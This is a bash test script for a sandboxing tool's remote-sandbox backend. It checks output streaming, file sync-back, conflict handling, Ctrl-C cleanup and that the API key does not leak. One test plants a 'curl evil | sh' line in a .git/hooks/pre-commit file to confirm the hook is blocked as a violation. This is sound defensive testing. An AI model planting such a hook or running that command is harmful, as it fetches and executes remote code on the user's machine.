#!/usr/bin/env bash
# `agentjail run --backend opensandbox` end to end against the stand-in (tests/standin/, doc/
# design.md §4b), as root and as an unprivileged user: the exit status and the output streamed;
# a file changed in the sandbox comes back, a new .git/hooks file does not (a violation), a file
# also changed here during the run is a conflict and keeps its local content; .gitignore'd files
# are not uploaded; interactive commands and paths outside the workspace are refused (exit 2);
# Ctrl-C interrupts the command and deletes the sandbox; a service that never gets ready or drops
# the stream gives a clear error and a deleted sandbox; the API key never shows in argv, the
# store, the output or --dry-run; the session is in `sessions` and `show`. The configuration is
# the README's (no cpu, memory or timeout) and the stand-in checks every field the spec requires
# (issue 24 item 15: resourceLimits and timeout were left out); timeout = 0 asks for the spec's
# longest and says so.
. "$(dirname "$0")/lib.sh"
aj_setup
. "$(dirname "$0")/osblib.sh"
command -v tar >/dev/null || bail "tar is missing"

KEY=sk-osb-$$-$RANDOM-secret
STANDIN_API_KEY=$KEY osb_start main --ping 0.5 --linger 0.2 --pending 0.3
MAIN_URL=$OSB_URL MAIN_STATE=$OSB_STATE

for who in "${AJ_WHOS[@]}"; do
	osb_config "$who" "$MAIN_URL"
	osb_repo "$who"
	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- sh -c \
		'echo out1; echo err1 >&2; echo; ls -a; cat a.txt; echo changed >a.txt; echo new >new.txt;
		 mkdir -p .git/hooks; echo "curl evil | sh" >.git/hooks/pre-commit; exit 3'
	is "$RC" 3 "$who: the command's exit status comes back"
	like "$OUT" $'^out1\n\n' "$who: stdout streamed, an empty line kept"
	like "$ERR" 'err1' "$who: stderr streamed to stderr"
	unlike "$OUT" 'build' "$who: a .gitignore'd directory is not uploaded"
	like "$OUT" 'hello' "$who: the workspace was uploaded"
	is "$(cat "$WS/a.txt")" changed "$who: a file changed in the sandbox comes back"
	is "$(cat "$WS/new.txt" 2>&1)" new "$who: a new file comes back"
	[ ! -e "$WS/.git/hooks/pre-commit" ]
	ok $? "$who: a new .git/hooks/pre-commit does not come back"
	like "$ERR" 'violation: protected path .git/hooks/pre-commit' "$who: and is reported as a violation"
	is "$(ls -a "$WS" | grep -c agentjail)" 0 "$who: no staging directory or archive left in the workspace"
	is "$(osb_live)" "" "$who: the sandbox was deleted"

	# the session store: backend, URL and sandbox id; resume runs again in a new sandbox
	aj_run "$who" -- sessions
	sid=$(awk 'NR == 2 { print $1 }' <<<"$OUT")
	aj_run "$who" -- show "$sid"
	like "$OUT" "backend    opensandbox $MAIN_URL \(sandbox [0-9a-f]+\)" "$who: show: the backend, URL and sandbox id"
	first=$(sed -n 's/^backend .*(sandbox \(.*\))$/\1/p' <<<"$OUT")
	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- resume "$sid"
	is "$RC" 3 "$who: resume runs the command again there"
	aj_run "$who" -- show "$sid"
	like "$OUT" 'attempt 2  fresh' "$who: as a second attempt"
	second=$(sed -n 's/^backend .*(sandbox \(.*\))$/\1/p' <<<"$OUT")
	[ -n "$second" ] && [ "$second" != "$first" ]
	ok $? "$who: in a new sandbox ($first, then $second)"
	is "$(osb_live)" "" "$who: which is deleted too"

	# a local edit during the run: the stand-in's commands run on this host, so the command
	# itself can change the local copy while it changes the sandbox's
	osb_repo "$who"
	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- sh -c "echo local-edit >'$WS/a.txt'; echo remote >a.txt"
	is "$RC" 0 "$who: conflict run exits 0"
	is "$(cat "$WS/a.txt")" local-edit "$who: a file changed here during the run keeps its local content"
	like "$ERR" 'conflict: a.txt' "$who: and is reported as a conflict"

	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- bash
	is "$RC" 2 "$who: an interactive program is refused with exit 2"
	like "$ERR" 'interactive' "$who: saying why"
	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --rw /etc -- true
	is "$RC" 2 "$who: --rw outside the workspace is refused"
	like "$ERR" 'only the workspace' "$who: with the reason"
	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --fs read-only -- sh -c 'echo x >a.txt'
	is "$RC:$(cat "$WS/a.txt")" 0:local-edit "$who: --fs read-only brings nothing back"
	like "$ERR" 'not brought back' "$who: and says so"

	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --net allow --allow-domain pypi.org --dry-run -- true
	is "$RC" 0 "$who: --dry-run"
	# the README's configuration (no cpu, memory, timeout): the spec's required fields all sent
	like "$OUT" '"timeout":3600,"resourceLimits":\{"cpu":"1","memory":"2Gi"\}' \
		"$who: without cpu, memory or timeout: resourceLimits as the SDKs send them, timeout 3600"
	like "$OUT" '"networkPolicy":\{"defaultAction":"deny","egress":\[\{"action":"allow","target":"pypi.org"\}\]\}' \
		"$who: --net allow is a deny policy with one allow rule per domain"
	unlike "$OUT$ERR" "$KEY" "$who: --dry-run does not show the key"

	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- sessions
	like "$OUT" 'sh -c' "$who: the runs are in \`sessions\`"
	unlike "$(cat "$STATE"/* "$STATE"/*/* 2>/dev/null | tr -d '\0')" "$KEY" "$who: the key is not in the store"

	aj_run "$who" -- log --last
	unlike "$OUT$ERR" "$KEY" "$who: the key is not in \`log\`"
	aj_run "$who" -- show "$sid" --json
	unlike "$OUT$ERR" "$KEY" "$who: nor in \`show --json\`"

	aj_run "$who" -t -e OSB_TEST_KEY="$KEY" -- run -- true
	like "$OUT" 'sandbox [0-9a-f]+: (Pending|Running)' "$who: on a terminal, the sandbox's state while it starts"

	aj_run "$who" -e OSB_TEST_KEY=wrong-key -- run -- true
	is "$RC" 125 "$who: a wrong key fails the run (125)"
	like "$ERR" '401 INVALID_API_KEY' "$who: with the service's {code, message}"
	unlike "$ERR" 'wrong-key' "$who: without echoing the key"
	# issue 26 item 8: a failure names the backend, what chose it and the unset variable
	aj_run "$who" -- run -- true
	is "$RC" 125 "$who: no key at all fails the run (125)"
	like "$ERR" '401 MISSING_API_KEY' "$who: … with the service's words"
	cfgfile=$HOMEDIR/.config/agentjail/config.toml
	like "$ERR" "that was the opensandbox backend at $MAIN_URL, chosen by backend = \"opensandbox\" at $cfgfile:1; \`--backend local\` runs a local jail instead" \
		"$who: … naming the backend and the file:line that chose it"
	like "$ERR" '\$OSB_TEST_KEY is not set' "$who: … and the variable that is not set"
	aj_run "$who" -e OSB_TEST_KEY=wrong-key -- run -- true
	unlike "$ERR" 'is not set' "$who: with a key set, no word about an unset one"
	rm -f "$cfgfile"
	printf '[opensandbox]\nurl = "%s"\napi_key_env = "OSB_TEST_KEY"\n' "$MAIN_URL" >"$cfgfile"
	aj_chown "$cfgfile"
	aj_run "$who" -- run --backend opensandbox -- true
	like "$ERR" "that was the opensandbox backend at $MAIN_URL, chosen by --backend opensandbox;" \
		"$who: chosen by the flag: says so"
done

# ---- timeout = 0 ("none"): the spec requires one; the longest it allows, said ----------------
osb_config root "$MAIN_URL" 'timeout = 0' 'cpu = "250m"'
osb_repo root
aj_run root -e OSB_TEST_KEY="$KEY" -- run --dry-run -- true
like "$OUT" '"timeout":86400,"resourceLimits":\{"cpu":"250m","memory":"2Gi"\}' \
	"timeout = 0: the spec's longest timeout (86400) is sent; a configured cpu with the default memory"
like "$OUT" 'timeout = 0.*86400' "timeout = 0: --dry-run says so"
aj_run root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo ok'
is "$RC:$OUT" "0:ok" "timeout = 0: a service that requires a timeout runs it"
like "$ERR" 'timeout = 0.*86400' "timeout = 0: the run says what was asked instead"

# ---- Ctrl-C: the command is interrupted and the sandbox deleted (root: signals to our child) ----
aj_use root
osb_config root "$MAIN_URL"
osb_repo root
NAP=60.$$ # a duration no other process on this machine sleeps
aj_cmd root -e OSB_TEST_KEY="$KEY" -- run -- sh -c "echo started; sleep $NAP"
"${AJ_CMD[@]}" </dev/null >"$AJ_TMP/int.out" 2>"$AJ_TMP/int.err" &
pid=$!
for i in $(seq 1 100); do grep -q started "$AJ_TMP/int.out" && break; sleep 0.1; done
is "$(osb_live | wc -l)" 1 "a sandbox exists while the command runs"
unlike "$(ps -eo args)" "$KEY" "the key is not in any process's argv"
kill -INT "$pid"
wait "$pid"
is "$?" 130 "Ctrl-C: exit 130"
like "$(cat "$AJ_TMP/int.err")" 'interrupted' "Ctrl-C: says so"
is "$(osb_live)" "" "Ctrl-C: the stand-in has no sandbox left"
for i in $(seq 1 30); do pgrep -f "^sleep $NAP\$" >/dev/null || break; sleep 0.1; done
is "$(pgrep -af "^sleep $NAP\$")" "" "Ctrl-C: the command in the sandbox was interrupted"

# ---- a slow or dropped service -------------------------------------------------------------------
osb_start slow --never-ready
osb_config root "$OSB_URL"
aj_run root -e OSB_TEST_KEY="$KEY" -e AGENTJAIL_OSB_READY_SECONDS=2 -- run -- true
is "$RC" 125 "a sandbox that never gets ready: exit 125"
like "$ERR" 'still Pending after 2 s' "and a clear error"
is "$(osb_live)" "" "and the sandbox deleted"

osb_start drop --drop-stream-after 1
osb_config root "$OSB_URL"
aj_run root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo one; echo two; sleep 1'
is "$RC" 125 "a dropped command stream: exit 125"
like "$ERR" 'closed the command stream before the command ended' "and a clear error"
is "$(osb_live)" "" "and the sandbox deleted"

osb_start stall --stall-stream-after 1
osb_config root "$OSB_URL"
aj_run root -e OSB_TEST_KEY="$KEY" -e AGENTJAIL_OSB_SILENCE_SECONDS=2 -- run -- sh -c 'echo one; echo two; sleep 1'
is "$RC" 125 "a stalled command stream (not even pings): exit 125"
like "$ERR" 'sent nothing \(not even a ping\) for 2 s' "and a clear error"
is "$(osb_live)" "" "and the sandbox deleted"

# ---- agents stay local, and say so --------------------------------------------------------------
aj_run root -- claude --dry-run
like "$ERR" 'backend = opensandbox applies to `agentjail run`; claude runs in a local jail' \
	"an agent command with backend = opensandbox says it runs locally"

# ---- doctor checks the configured service ------------------------------------------------------
osb_config root "$MAIN_URL"
aj_run root -e OSB_TEST_KEY="$KEY" -- doctor
like "$OUT" "ok +opensandbox +the service at $MAIN_URL answers and accepts the key" "doctor: the service answers and takes the key"
aj_run root -e OSB_TEST_KEY=wrong-key -- doctor
like "$OUT" 'fail +opensandbox .*401 INVALID_API_KEY' "doctor: a refused key fails the check"
like "$OUT" 'fix: put the service.s API key in \$OSB_TEST_KEY' "doctor: naming the variable"
unlike "$OUT$ERR" 'wrong-key' "doctor: never showing the key"
done_testing
